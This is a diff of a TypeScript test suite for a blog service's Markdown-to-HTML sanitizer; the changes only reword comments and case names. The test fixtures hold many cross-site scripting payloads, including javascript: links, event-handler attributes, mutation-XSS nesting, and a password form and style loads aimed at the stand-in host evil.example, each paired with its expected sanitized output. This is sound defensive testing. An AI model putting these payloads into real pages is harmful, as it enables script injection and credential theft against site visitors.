@@ -3,8 +3,8 @@ import { markdownToHtml } from "../../../src/service/markdown/markdown-to-html.t
 import { closePages, openBrowser } from "../../browser.ts";
 import { clientOf, openRunningService } from "../open-service.ts";
 
-// Everything here calls `alert`, loads from evil.example, hides the page or takes over a name of its scripts, if it is
-// let through.
+// Everything here calls `alert`, loads from evil.example, hides the page, or takes over a name of its scripts unless it is
+// sanitized.
 
 interface Attack {
   readonly markdown: string;
@@ -12,12 +12,12 @@ interface Attack {
 }
 
 const ATTACKS: Readonly<Record<string, Attack>> = {
-  "javascript: in links of Markdown": {
+  "javascript: in Markdown links": {
     markdown:
       "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x0A;script:alert(1)) [d](&#106;avascript:alert(1)) <javascript:alert(1)> [e][r]\n\n[r]: vbscript:alert(1)",
     shown: "<p><a>a</a> <a>b</a> <a>c</a> <a>d</a> <a>javascript:alert(1)</a> <a>e</a></p>",
   },
-  "javascript: and data: in links of HTML": {
+  "javascript: and data: in HTML links": {
     markdown:
       '<a href="javascript:alert(1)">a</a> <a href=" &#1; javascript:alert(1)">b</a> <a href="data:text/html,<script>alert(1)</script>">c</a> <a href="file:///etc/passwd">d</a>',
     shown: "<p><a>a</a> <a>b</a> <a>c</a> <a>d</a></p>",
@@ -31,7 +31,7 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
       '<img src="/none.png" onerror=alert(1)> <b onmouseover=alert(1)>b</b> <video autoplay src=javascript:alert(1) onerror=alert(1) poster=javascript:alert(1)></video> <details ontoggle=alert(1) open>d</details>',
     shown: '<p><img src="/none.png"> <b>b</b> <video></video> </p><details open>d</details><p></p>',
   },
-  "scripts, also split and nested ones": {
+  "scripts, including split and nested ones": {
     markdown: "<script\n>alert(1)</script\n> <scr<script>ipt>alert(1)</scr</script>ipt>",
     shown: " ipt>alert(1)ipt>",
   },
@@ -45,11 +45,11 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
       '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     shown: '<p></p>\n<p></p><p title="</noscript><img src=x onerror=alert(1)>"></p>',
   },
-  "HTML that leaves an attribute": {
+  "HTML that breaks out of an attribute": {
     markdown: '<svg></p><style><a id="</style><img src=/none.png onerror=alert(1)>">',
     shown: '<p></p><img src="/none.png">"><p></p>',
   },
-  "styles and other sources of the page": {
+  "styles and other resources of the page": {
     markdown:
       '<style>body{display:none}</style> <link rel=stylesheet href=//evil.example> <meta http-equiv=refresh content="0;url=//evil.example"> <base href=//evil.example> <p style="position:fixed;inset:0" class="top">x</p>',
     shown: "    <p>x</p>",
@@ -64,7 +64,7 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
       '<form action=//evil.example><input name=password type=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button><select><option>o</select></form>',
     shown: '<input disabled type="checkbox">x',
   },
-  "text that is not parsed in a browser": {
+  "elements whose text browsers don't parse": {
     markdown: "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
     shown: "<p></p>&#x3C;img src=x onerror=alert(1)><p></p>",
   },
@@ -76,33 +76,33 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
     markdown: "</article></main></body></html>\n\n</div></div>",
     shown: "\n",
   },
-  "tags that stay open": {
+  "unclosed tags": {
     markdown: "<div><p><b><i>open\n\n<table><tr><td>\n\nlast",
     shown: "<div><p><b><i>open\n</i></b></p><table><tbody><tr><td>\n<p>last</p></td></tr></tbody></table></div>",
   },
-  "an element that swallows all behind it": { markdown: "a\n\n<textarea>b\n\n*c*", shown: "<p>a</p>\n" },
+  "an element that swallows the rest of the page": { markdown: "a\n\n<textarea>b\n\n*c*", shown: "<p>a</p>\n" },
   "names that scripts use": {
     markdown:
       '<a id="location" name="cookie">a</a> <form id=getElementById></form> <img name=body id=documentElement> <div id="__proto__">x</div>',
     shown:
       '<p><a id="user-content-location" name="user-content-cookie">a</a> </p> <img id="user-content-documentElement"> <div id="user-content-__proto__">x</div><p></p>',
   },
-  "headings that are called like names of scripts": {
+  "headings with names used by scripts": {
     markdown: "# constructor\n\n# `__proto__`\n\n# toString",
     shown:
       '<h1 id="constructor">constructor</h1>\n<h1 id="__proto__"><code>__proto__</code></h1>\n<h1 id="tostring">toString</h1>',
   },
-  "the name of a code's language": {
+  "the language name of a code block": {
     markdown: '```"><script>alert(1)</script>\nx\n```\n\n``` js"onclick=alert(1)\ny\n```',
     shown:
       '<pre class="astro-code" tabindex="0" data-language="&#x22;><script>alert(1)</script>"><code>x</code></pre>\n<pre class="astro-code" tabindex="0" data-language="js&#x22;onclick=alert(1)"><code>y</code></pre>',
   },
-  "the style of a table's column": {
+  "the style of a table column": {
     markdown:
       '<table><tr><td style="text-align: center">a<td style="text-align: center;position:fixed">b<td style="background:url(//evil.example)">c</table>',
     shown: '<table><tbody><tr><td style="text-align: center">a</td><td>b</td><td>c</td></tr></tbody></table>',
   },
-  "a link that hands its window over": {
+  "a link that exposes its window": {
     markdown: '<a target="_top" rel="opener" href="https://x.com">x</a>',
     shown: '<p><a rel="" href="https://x.com">x</a></p>',
   },
@@ -112,11 +112,11 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
   },
 };
 
-it.each(Object.entries(ATTACKS))("%s are harmless", (_, { markdown, shown }) => {
+it.each(Object.entries(ATTACKS))("sanitizes %s", (_, { markdown, shown }) => {
   expect(markdownToHtml({ markdown, slug: "my-post" })).toBe(shown);
 });
 
-it("a browser runs none of them, and loads nothing from elsewhere", async () => {
+it("a browser runs none of them, and loads nothing from other hosts", async () => {
   const service = await openRunningService();
   const send = clientOf(service, { routeSet: "a", transport: "over HTTP" });
   await send("POST", "/api/blogs", { json: { name: "News", slug: "news" } });
